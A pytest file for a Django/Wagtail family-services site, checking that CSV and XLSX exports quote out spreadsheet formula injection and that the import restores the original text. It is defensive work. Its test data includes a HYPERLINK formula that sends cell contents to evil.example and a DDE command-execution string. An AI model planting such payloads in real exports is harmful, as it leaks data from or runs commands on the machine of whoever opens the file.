"""Spreadsheet exports cannot run formulas (CSV injection): the offers' CSV, its command, and every admin export."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from community.accounts.roles import FAMILIENPUNKT_TEAM, REDAKTION
from core.spreadsheet import safe_cell, unquote_cell
from home.contact_points import services as contact_point_services
from home.contact_points.models import ContactPointStaff
from home.offers.exchange import parse_upload
from home.offers.models import OfferPage
from home.offers.services import offers_import
from tests.factories import (
    ParentFactory,
    UserFactory,
    contact_point_index,
    district,
    make_contact_point,
    make_offer,
    make_shift,
)

pytestmark = pytest.mark.django_db

# What a spreadsheet would run, one per dangerous first character, and text that merely starts with a quote.
DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "+": "+49 208 455-0 Familienbüro",
    "-": "-2+3 Spielenachmittag",
    "\t": "\t=1+1 Tabulator",
    "\r": "\r=1+1 Wagenrücklauf",
}


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", [*DANGEROUS.values(), "'=1+1", "''-x"])
def test_text_that_starts_a_formula_gets_a_quote_and_the_import_takes_it_off(value):
    quoted = safe_cell(value)
    assert quoted == "'" + value
    assert unquote_cell(quoted) == value


@pytest.mark.parametrize("value", [-3, -0.5, Decimal("-6.88"), 0, None, "", "Kinderturnen", "'Zitat'", "a=b"])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert safe_cell(value) == value
    assert unquote_cell(value) == value


@pytest.fixture
def dangerous_offers(offers_page):
    district("saarn")
    return [
        make_offer(
            offers_page, title=title, summary=f"Sicher {n}", latitude=Decimal("51.4"), longitude=Decimal("-0.12")
        )
        for n, title in enumerate(DANGEROUS.values())
    ]


def assert_offers_csv_neutralised(text: str) -> None:
    rows = {row["summary"]: row for row in rows_of(text)}
    for n, title in enumerate(DANGEROUS.values()):
        row = rows[f"Sicher {n}"]
        assert row["title"] == "'" + title
        # A real number stays a number, even a negative one: no quote in front of the longitude.
        assert Decimal(row["longitude"]) == Decimal("-0.12")


def test_offers_csv_from_the_api_is_neutralised(client, dangerous_offers):
    assert_offers_csv_neutralised(client.get("/api/v1/offers.csv").content.decode())


def test_offers_csv_from_the_command_is_neutralised(dangerous_offers):
    out = io.StringIO()
    call_command("export_offers", "--format=csv", stdout=out)
    assert_offers_csv_neutralised(out.getvalue())


def test_a_neutralised_title_comes_back_unchanged_after_export_and_import(client, dangerous_offers, offers_page):
    """The CSV import takes the export's quote off again: a round trip neither runs nor changes a title."""
    exported = client.get("/api/v1/offers.csv").content.decode()
    OfferPage.objects.all().delete()
    report = offers_import(
        rows=parse_upload(name="angebote.csv", content=exported.encode()), index=offers_page, dry_run=False
    )
    assert report.ok, report.errors
    titles = set(OfferPage.objects.values_list("title", flat=True))
    # The import strips surrounding whitespace, so tab and carriage return are gone; the formula text stays text.
    assert titles == {title.strip() for title in DANGEROUS.values()}


def xlsx_rows(content: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def assert_xlsx_text_kept_as_text(content: bytes, values) -> None:
    """In XLSX the text stays as it was (no stray quote), stored as text with Excel's quote-prefix mark."""
    cells = {cell.value: cell for row in xlsx_rows(content) for cell in row}
    for value in values:
        cell = cells[value]
        assert cell.data_type == "s" and cell.quotePrefix, value


class AdminExportTests:
    """Wagtail's spreadsheet exports: a viewset of ours (list_export) and one of Wagtail's own reports."""

    @pytest.fixture
    def signups(self, home_page):
        point = make_contact_point(contact_point_index(home_page), district=district("styrum"))
        day = timezone.localdate() + datetime.timedelta(days=5)
        comments = ["=1+1", "@SUM(A1)", "+491234", "-5+5"]
        for n, comment in enumerate(comments):
            contact_point_services.volunteer_signup(
                user=ParentFactory(username=f"eltern{n}"),
                shift=make_shift(point, date=day + datetime.timedelta(days=n)),
                comment=comment,
            )
        return point, comments

    def test_volunteer_sign_ups_export_as_csv_and_xlsx_without_formulas(self, client, signups):
        point, comments = signups
        team = UserFactory(roles=[FAMILIENPUNKT_TEAM])
        ContactPointStaff.objects.create(page=point, user=team)
        client.force_login(team)
        url = reverse("volunteersignup:index")
        exported = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
        assert sorted(row["Nachricht an das Team"] for row in rows_of(exported)) == sorted("'" + c for c in comments)
        assert_xlsx_text_kept_as_text(b"".join(client.get(url, {"export": "xlsx"}).streaming_content), comments)

    def test_wagtails_own_aging_pages_report_exports_without_formulas(self, client, offers_page):
        titles = ["=2+3 Turnen", "@Basteln", "-1 Singen"]
        for title in titles:
            make_offer(offers_page, title=title)
        client.force_login(UserFactory(roles=[REDAKTION]))
        url = reverse("wagtailadmin_reports:aging_pages")
        exported = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
        listed = {row["Titel"] for row in rows_of(exported)}
        assert {"'" + title for title in titles} <= listed
        assert not set(titles) & listed
        assert_xlsx_text_kept_as_text(b"".join(client.get(url, {"export": "xlsx"}).streaming_content), titles)
